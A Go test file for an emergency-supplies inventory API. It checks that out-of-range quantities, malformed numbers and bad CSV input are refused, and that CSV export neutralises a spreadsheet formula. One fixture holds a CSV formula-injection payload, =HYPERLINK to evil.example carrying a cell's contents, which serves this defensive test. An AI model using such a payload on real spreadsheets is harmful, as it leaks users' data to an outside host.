package api

import (
	"encoding/json"
	"fmt"
	"net/http/httptest"
	"strings"
	"testing"

	"github.com/stockpile-dev/stockpile/internal/readiness"
)

// The tests of issue 11 ("Hostile input"): every quantity, volume,
// capacity, count and demand has a range, a figure outside it is refused
// with a 400 naming the field and stores nothing (runScenarios checks the
// database after every refused request), and a state at the edge of every
// range still reads back with 200s.

// itemWith is a new item of the default catalogue's tent category with one
// more field, such as "volume_m3":1e308.
func itemWith(code, field string) string {
	return fmt.Sprintf(`{"code":%q,"name_zh":"测试物资","unit_zh":"台","counted":true,"purpose":"rescue",%s}`, code, field)
}

// depotWith is a new street depot in 房山 with one more field, such as
// "capacity_m3":5e-324.
func depotWith(code, field string) string {
	return fmt.Sprintf(`{"code":%q,"name_zh":"测试储备点","tier":"street","kind":"comprehensive","org_code":"BJ-EMB",
		"area_code":"110111","point":{"lon":116.14,"lat":39.70},%s}`, code, field)
}

// receipt receives quantity (a JSON value) of item into a new lot at depot.
func receipt(depot, item, lot, quantity string) string {
	return fmt.Sprintf(`{"reason":"极限测试入库","lines":[{"kind":"receive","depot":%q,"item":%q,
		"quantity":%s,"new_lot":{"code":%q,"batch":"MAX"}}]}`, depot, item, quantity, lot)
}

// receiptInto receives quantity of item into the existing lot.
func receiptInto(depot, item, lot, quantity string) string {
	return fmt.Sprintf(`{"reason":"极限测试入库","lines":[{"kind":"receive","depot":%q,"item":%q,
		"quantity":%s,"lot":%q}]}`, depot, item, quantity, lot)
}

// demandOf is one demand for quantity tents (a JSON value) within 6 hours.
func demandOf(quantity string) string {
	return fmt.Sprintf(`{"item":"1010101","quantity":%s,"within_hours":6}`, quantity)
}

func TestLimitsCatalogueDepotsAreas(t *testing.T) {
	eachAPI(t, func(t *testing.T, a *testAPI) {
		runScenarios(t, a, []scenario{
			{name: "item volume 1e308", method: "POST", path: "/api/items", body: itemWith("1010105", `"volume_m3":1e308`),
				status: 400, code: "catalog.volume_out_of_range", field: "volume_m3"},
			{name: "item volume denormal", method: "POST", path: "/api/items", body: itemWith("1010105", `"volume_m3":5e-324`),
				status: 400, code: "catalog.volume_out_of_range", field: "volume_m3"},
			{name: "item volume just over 1,000 m³", method: "POST", path: "/api/items",
				body: itemWith("1010105", `"volume_m3":1000.0000001`), status: 400, code: "catalog.volume_out_of_range",
				field: "volume_m3"},
			{name: "item volume beyond float64", method: "POST", path: "/api/items", body: itemWith("1010105", `"volume_m3":1e309`),
				status: 400, code: "request.malformed_json", field: "volume_m3"},
			{name: "item volume NaN is not JSON", method: "POST", path: "/api/items", body: itemWith("1010105", `"volume_m3":NaN`),
				status: 400, code: "request.malformed_json"},
			{name: "item volume as a string", method: "POST", path: "/api/items", body: itemWith("1010105", `"volume_m3":"1e308"`),
				status: 400, code: "request.malformed_json", field: "volume_m3"},
			{name: "item shelf life over 100 years", method: "POST", path: "/api/items",
				body: itemWith("1010105", `"shelf_life_days":36501`), status: 400, code: "catalog.shelf_life_out_of_range",
				field: "shelf_life_days"},
			{name: "item shelf life beyond int64", method: "POST", path: "/api/items",
				body: itemWith("1010105", `"shelf_life_days":99999999999999999999`), status: 400, code: "request.malformed_json",
				field: "shelf_life_days"},
			{name: "item at the edges", method: "POST", path: "/api/items",
				body: itemWith("1010105", `"volume_m3":1000,"shelf_life_days":36500`), status: 201,
				want: []string{`"volume_m3":1000`, `"shelf_life_days":36500`}},

			{name: "depot capacity denormal", method: "POST", path: "/api/depots", body: depotWith("S-MAX-0", `"capacity_m3":5e-324`),
				status: 400, code: "depot.capacity_out_of_range", field: "capacity_m3"},
			{name: "depot capacity 1e308", method: "POST", path: "/api/depots", body: depotWith("S-MAX-0", `"capacity_m3":1e308`),
				status: 400, code: "depot.capacity_out_of_range", field: "capacity_m3"},
			{name: "depot capacity half a cubic metre", method: "POST", path: "/api/depots",
				body: depotWith("S-MAX-0", `"capacity_m3":0.5`), status: 400, code: "depot.capacity_out_of_range", field: "capacity_m3"},
			{name: "depot capacity negative", method: "POST", path: "/api/depots", body: depotWith("S-MAX-0", `"capacity_m3":-1`),
				status: 400, code: "depot.capacity_negative", field: "capacity_m3"},
			{name: "depot capacity 1 m³", method: "POST", path: "/api/depots", body: depotWith("S-MAX-1", `"capacity_m3":1`),
				status: 201, want: []string{`"capacity_m3":1`}},
			{name: "depot capacity 10,000,000 m³", method: "POST", path: "/api/depots",
				body: depotWith("S-MAX-2", `"capacity_m3":10000000`), status: 201, want: []string{`"capacity_m3":10000000`}},
			{name: "depot at latitude 1e308", method: "POST", path: "/api/depots",
				body:   strings.Replace(depotWith("S-MAX-3", `"capacity_m3":1`), `"lat":39.70`, `"lat":1e308`, 1),
				status: 400, code: "geo.point_invalid", field: "point"},

			{name: "area population over two billion", method: "POST", path: "/api/areas", status: 400,
				code: "area.population_out_of_range", field: "population",
				body: `{"code":"110111099","parent_code":"110111","level":"street","name_zh":"测试街道","population":2000000001}`},
			{name: "area population two billion", method: "POST", path: "/api/areas", status: 201,
				body: `{"code":"110111099","parent_code":"110111","level":"street","name_zh":"测试街道","population":2000000000}`},
		})
	})
}

func TestLimitsQuantities(t *testing.T) {
	eachAPI(t, func(t *testing.T, a *testAPI) {
		runScenarios(t, a, []scenario{
			// The ledger: the domain check names the line (stock.Line's
			// validator must call Quantity.CheckRange; the per-lot balance
			// cap alone answers stock.balance_too_large).
			{name: "receipt of 999,999,999,999,999 (needs stock.Line.validate to call Quantity.CheckRange)",
				method: "POST", path: "/api/movements",
				body:   receipt("C-TEST-A", "1010101", "MAX-A", "999999999999999"),
				status: 400, code: "quantity.too_large", field: "lines[0].quantity"},
			{name: "receipt of 10^9 + 1", method: "POST", path: "/api/movements",
				body:   receipt("C-TEST-A", "1010101", "MAX-A", "1000000001"),
				status: 400, code: "quantity.too_large", field: "lines[0].quantity"},
			{name: "receipt of 10^9 + 0.001 as a string", method: "POST", path: "/api/movements",
				body:   receipt("D-TEST-B", "3010201", "MAX-G", `"1000000000.001"`),
				status: 400, code: "quantity.too_large", field: "lines[0].quantity"},
			{name: "receipt of 1e308 as a string", method: "POST", path: "/api/movements",
				body:   receipt("C-TEST-A", "1010101", "MAX-A", `"1e308"`),
				status: 400, code: "quantity.malformed", field: "quantity"},
			{name: "receipt of 1e308", method: "POST", path: "/api/movements",
				body:   receipt("C-TEST-A", "1010101", "MAX-A", `1e308`),
				status: 400, code: "quantity.malformed", field: "quantity"},
			{name: "receipt of exactly 10^9", method: "POST", path: "/api/movements",
				body:   receipt("C-TEST-A", "1010101", "MAX-A", "1000000000"),
				status: 201, want: []string{`"delta":1000000000`}},
			{name: "one more into the full lot", method: "POST", path: "/api/movements",
				body:   receiptInto("C-TEST-A", "1010101", "MAX-A", "1"),
				status: 400, code: "stock.balance_too_large", field: "lines[0].quantity"},
			{name: "transfer order of 10^9 + 1 (needs transfer.Line.validate to call Quantity.CheckRange)",
				method: "POST", path: "/api/transfers", status: 400, code: "quantity.too_large", field: "lines[0].quantity",
				body: transferWith(`{"from":"C-TEST-A","to":"D-TEST-B","item":"1010101","quantity":1000000001,
					"lots":[{"lot":"MAX-A","quantity":1000000001}]}`)},
			{name: "transfer order of the whole lot", method: "POST", path: "/api/transfers", status: 201,
				body: transferWith(`{"from":"C-TEST-A","to":"D-TEST-B","item":"1010101","quantity":1000000000,
					"lots":[{"lot":"MAX-A","quantity":1000000000}]}`)},

			{name: "the tent maker", method: "POST", path: "/api/orgs", body: tentMaker, status: 201},
			{name: "agreement over the bound", method: "POST", path: "/api/agreements",
				body:   agreementWith("XY-MAX", "quantity", "1000000001"),
				status: 400, code: "quantity.too_large", field: "quantity"},
			{name: "capacity over the bound", method: "POST", path: "/api/capacities",
				body:   capacityWith("CN-MAX", "per_day", `"1000000000.001"`),
				status: 400, code: "quantity.too_large", field: "per_day"},
			{name: "agreement running to 2100", method: "POST", path: "/api/agreements",
				body:   agreementWith("XY-MAX", "valid_until", `"2100-01-01"`),
				status: 400, code: "date.invalid", field: "valid_until"},
			{name: "agreement delivering in 1e308 hours", method: "POST", path: "/api/agreements",
				body:   agreementWith("XY-MAX", "delivery_hours", `1e308`),
				status: 400, code: "reserve.hours_invalid", field: "delivery_hours"},
			{name: "agreement at the bound", method: "POST", path: "/api/agreements",
				body:   agreementWith("XY-MAX", "quantity", "1000000000"),
				status: 201, want: []string{`"quantity":1000000000`}},
			{name: "capacity at the bound", method: "POST", path: "/api/capacities",
				body:   capacityWith("CN-MAX", "per_day", "1000000000"),
				status: 201, want: []string{`"per_day":1000000000`}},
		})
	})
}

func TestLimitsDemands(t *testing.T) {
	eachAPI(t, func(t *testing.T, a *testAPI) {
		runScenarios(t, a, []scenario{
			{name: "incident demanding 10^9 + 1", method: "POST", path: "/api/incidents",
				body:   incident("MAX-IN", demandOf("1000000001")),
				status: 400, code: "quantity.too_large", field: "sites[0].demands[0].quantity"},
			{name: "the incident was not stored", method: "GET", path: "/api/incidents/MAX-IN", status: 404,
				code: "incident.not_found"},
			{name: "incident demanding a huge number as a string", method: "POST", path: "/api/incidents",
				body:   incident("MAX-IN", demandOf(`"999999999999999"`)),
				status: 400, code: "quantity.too_large", field: "sites[0].demands[0].quantity"},
			{name: "incident reported in the year 2286", method: "POST", path: "/api/incidents",
				body:   incidentWith("MAX-IN", `"reported_at":10000000000,`, demandOf("5")),
				status: 400, code: "incident.reported_at_invalid", field: "reported_at"},
			{name: "plan for an inline incident demanding 10^9 + 1", method: "POST", path: "/api/plans",
				body:   `{"incident":` + incident("MAX-PL", demandOf("1000000001")) + `}`,
				status: 400, code: "quantity.too_large", field: "incident.sites[0].demands[0].quantity"},
			{name: "the inline incident was not stored", method: "GET", path: "/api/incidents/MAX-PL", status: 404,
				code: "incident.not_found"},
			{name: "no plan was stored", method: "GET", path: "/api/plans", status: 200, want: []string{`"count":0`}},

			// Exactly the bound, at level Ⅳ (priority 1): inside the
			// planner's arithmetic, so it is stored and planned.
			{name: "incident demanding exactly 10^9 at level Ⅳ", method: "POST", path: "/api/incidents",
				body:   strings.Replace(incident("MAX-IV", demandOf("1000000000")), `"level":2`, `"level":4`, 1),
				status: 200, want: []string{`"quantity":1000000000`}},
			{name: "planned", method: "POST", path: "/api/plans", body: `{"incidents":["MAX-IV"]}`, status: 201,
				want: []string{`"short":1000000000`}},

			// Exactly the bound at level Ⅱ (priority 6) is more than the
			// planner can weigh: refused as plan.too_large, and the inline
			// incident must not be stored either, or every later plan over
			// the open incidents would fail.
			{name: "plan for an inline incident demanding exactly 10^9 at level Ⅱ", method: "POST", path: "/api/plans",
				body:   `{"incident":` + incident("MAX-II", demandOf("1000000000")) + `}`,
				status: 400, code: "plan.too_large", field: "incident.sites[0].demands[0].quantity"},
			{name: "the refused inline incident was not stored (the API must check the plan's size before SaveIncident)",
				method: "GET", path: "/api/incidents/MAX-II", status: 404, code: "incident.not_found"},
			{name: "a plan over the open incidents still works", method: "POST", path: "/api/plans", body: `{}`,
				status: 201},

			// The tester's case: exactly 10^9 at level Ⅱ through POST
			// /api/incidents. Storing it would make every later plan over
			// the open incidents fail, so it is refused as the plan would
			// refuse it (dispatch.Planner.CheckSize before storing).
			{name: "incident demanding exactly 10^9 at level Ⅱ",
				method: "POST", path: "/api/incidents", body: incident("MAX-II", demandOf("1000000000")),
				status: 400, code: "plan.too_large", field: "sites[0].demands[0].quantity"},
			{name: "plans over the open incidents still work after it", method: "POST", path: "/api/plans", body: `{}`,
				status: 201},
		})
	})
}

// normsCSV is a norms file whose source is a formula that would send the
// sheet's cells away if a spreadsheet ran it.
const normsCSV = "hazard,item,basis,quantity,tier,assumption,source\n" +
	"*,1020101,relocated,1,,no,\"=HYPERLINK(\"\"http://evil.example/?\"\"&A1,\"\"x\"\")\"\n" +
	"*,1010201,relocated,1,,no,-2\n"

func TestLimitsNormsCSV(t *testing.T) {
	eachAPI(t, func(t *testing.T, a *testAPI) {
		csvHeader := map[string]string{"Content-Type": "text/csv; charset=utf-8"}
		var exported string
		csvBody := func(save bool) func(t *testing.T, rec *httptest.ResponseRecorder) {
			return func(t *testing.T, rec *httptest.ResponseRecorder) {
				body := rec.Body.String()
				if !strings.Contains(body, `'=HYPERLINK(""http://evil.example/?""&A1,""x"")`) {
					t.Errorf("the formula is not neutralised:\n%s", body)
				}
				if strings.Contains(body, `,"=HYPERLINK`) || strings.Contains(body, ",=") {
					t.Errorf("a cell starts with =:\n%s", body)
				}
				if !strings.Contains(body, ",no,-2,") {
					t.Errorf("the plain number -2 was changed:\n%s", body)
				}
				if save {
					exported = body
				} else if body != exported {
					t.Errorf("export → import → export changed the file:\n%s\n---\n%s", exported, body)
				}
			}
		}
		runScenarios(t, a, []scenario{
			{name: "import a formula source", method: "PUT", path: "/api/readiness/norms", body: normsCSV,
				headers: csvHeader, status: 200, want: []string{`"source":"=HYPERLINK(\"http://evil.example/?\"&A1,\"x\")"`}},
			{name: "export neutralises it", method: "GET", path: "/api/readiness/norms", status: 200, check: csvBody(true)},
		})
		runScenarios(t, a, []scenario{
			{name: "import the export", method: "PUT", path: "/api/readiness/norms", body: exported, headers: csvHeader,
				status: 200, want: []string{`"source":"=HYPERLINK(`}, notWant: []string{`"source":"'=HYPERLINK`}},
			{name: "export again, byte for byte", method: "GET", path: "/api/readiness/norms", status: 200, check: csvBody(false)},
			{name: "a NUL in a cell", method: "PUT", path: "/api/readiness/norms", headers: csvHeader,
				body:   "hazard,item,basis,quantity,tier,assumption,source\n*,1020101,relocated,1,,no,bad\x00source\n",
				status: 400, code: "norms.import", check: rowsOf(2, "source")},
			{name: "invalid UTF-8 in a cell", method: "PUT", path: "/api/readiness/norms", headers: csvHeader,
				body:   "hazard,item,basis,quantity,tier,assumption,source\n*,1020101,relocated,1,,no,bad\xff\n",
				status: 400, code: "norms.import", check: rowsOf(2, "source")},
			{name: "a norm of 1e308", method: "PUT", path: "/api/readiness/norms", headers: csvHeader,
				body:   "hazard,item,basis,quantity,tier,assumption,source\n*,1020101,relocated,1e308,,no,src\n",
				status: 400, code: "norms.import", check: rowsOf(2, "quantity")},
			{name: "a norm of Inf", method: "PUT", path: "/api/readiness/norms", headers: csvHeader,
				body:   "hazard,item,basis,quantity,tier,assumption,source\n*,1020101,relocated,+Inf,,no,src\n",
				status: 400, code: "norms.import", check: rowsOf(2, "quantity")},
		})
	})
}

// rowsOf checks that a refused import reports one bad row, at line and
// naming field, in both languages.
func rowsOf(line int, field string) func(t *testing.T, rec *httptest.ResponseRecorder) {
	return func(t *testing.T, rec *httptest.ResponseRecorder) {
		var eb struct {
			Error struct {
				Rows []struct {
					Line      int
					Field     string
					Message   string `json:"message"`
					MessageZH string `json:"message_zh"`
				}
			}
		}
		decodeBody(t, rec, &eb)
		r := eb.Error.Rows
		if len(r) != 1 || r[0].Line != line || r[0].Field != field || r[0].Message == "" || !hasHan(r[0].MessageZH) {
			t.Errorf("rows %+v, want line %d naming %s", r, line, field)
		}
	}
}

// TestLimitsMaximalStateReads: with lots at the bound in many depots, the
// largest unit volume and the smallest capacity, every read still answers
// 200 with finite figures.
func TestLimitsMaximalStateReads(t *testing.T) {
	eachAPI(t, func(t *testing.T, a *testAPI) {
		// The settings at their bounds: life support for two billion people
		// for a year, a million tents each.
		cfg := readiness.DefaultConfig()
		cfg.LifeSupport.People, cfg.LifeSupport.Days = readiness.MaxPeople, readiness.MaxDays
		cfg.Norms[0].Quantity = readiness.MaxNormQuantity
		maxCfg, err := json.Marshal(readinessConfigRequest{Config: cfg})
		if err != nil {
			t.Fatal(err)
		}
		scs := []scenario{
			{name: "a second district, as populous as allowed", method: "POST", path: "/api/areas", status: 201,
				body: `{"code":"110109","parent_code":"110000","level":"district","name_zh":"门头沟区","population":2000000000,
					"point":{"lon":116.1,"lat":39.94},"terrain":"mountain"}`},
			{name: "settings at their bounds", method: "PUT", path: "/api/readiness/config", body: string(maxCfg),
				status: 200},
			{name: "the bulkiest item", method: "POST", path: "/api/items", body: itemWith("1010105", `"volume_m3":1000`),
				status: 201},
			{name: "the smallest depot", method: "POST", path: "/api/depots", body: depotWith("S-TINY", `"capacity_m3":1`),
				status: 201},
			{name: "the bulkiest item at the bound in the smallest depot", method: "POST", path: "/api/movements",
				body: receipt("S-TINY", "1010105", "BULK-1", "1000000000"), status: 201},
		}
		const depots = 12
		for i := range depots {
			code := fmt.Sprintf("S-MAX-%02d", i)
			scs = append(scs,
				scenario{name: "depot " + code, method: "POST", path: "/api/depots",
					body: depotWith(code, `"capacity_m3":10000000`), status: 201},
				scenario{name: "tents at the bound in " + code, method: "POST", path: "/api/movements",
					body: receipt(code, "1010101", fmt.Sprintf("MAXT%02d", i), "1000000000"), status: 201},
				scenario{name: "bulky items at the bound in " + code, method: "POST", path: "/api/movements",
					body: receipt(code, "1010105", fmt.Sprintf("MAXB%02d", i), "1000000000"), status: 201},
			)
		}
		// JSON has no NaN or ±Inf: encoding one fails, so a whole, valid
		// body shows every figure was finite.
		finite := func(t *testing.T, rec *httptest.ResponseRecorder) {
			if !json.Valid(rec.Body.Bytes()) {
				t.Errorf("the body is not valid JSON: %.300s", rec.Body)
			}
		}
		// A 500 in any of these is a read that sums or divides past its
		// range: store SQL sums (internal/store/balances.go, depots.go,
		// mapdata.go), utilisation (depot.NewUsage) or the planner behind
		// readiness (internal/dispatch, internal/alloc).
		scs = append(scs,
			scenario{name: "depots with utilisation", method: "GET", path: "/api/depots", status: 200, check: finite,
				want: []string{`"code":"S-TINY"`, `"utilisation":1000000000000`}},
			scenario{name: "the smallest depot", method: "GET", path: "/api/depots/S-TINY", status: 200, check: finite},
			scenario{name: "balances", method: "GET", path: "/api/balances", status: 200, check: finite},
			scenario{name: "balances by item", method: "GET", path: "/api/balances?group_by=item", status: 200, check: finite,
				want: []string{`"quantity":13000000000`}},
			scenario{name: "balances by depot", method: "GET", path: "/api/balances?group_by=depot", status: 200, check: finite},
			scenario{name: "stock near a site", method: "GET", path: "/api/stock/nearby?item=1010101&lon=116.14&lat=39.73&hours=4",
				status: 200, check: finite},
			scenario{name: "ledger verify", method: "GET", path: "/api/ledger/verify", status: 200, want: []string{`"ok":true`}},
			scenario{name: "readiness", method: "GET", path: "/api/readiness", status: 200, check: finite},
			scenario{name: "readiness workbook", method: "GET", path: "/api/readiness?format=xlsx", status: 200,
				check: func(t *testing.T, rec *httptest.ResponseRecorder) {}},
			scenario{name: "stock workbook", method: "GET", path: "/api/exports/stock.xlsx", status: 200,
				check: func(t *testing.T, rec *httptest.ResponseRecorder) {}},
			scenario{name: "a plan for every tent there is", method: "POST", path: "/api/plans", status: 201,
				body: `{"incident":` + strings.Replace(incident("MAX-ALL", demandOf("1000000000")), `"level":2`, `"level":4`, 1) + `}`},
		)
		runScenarios(t, a, scs)
	})
}
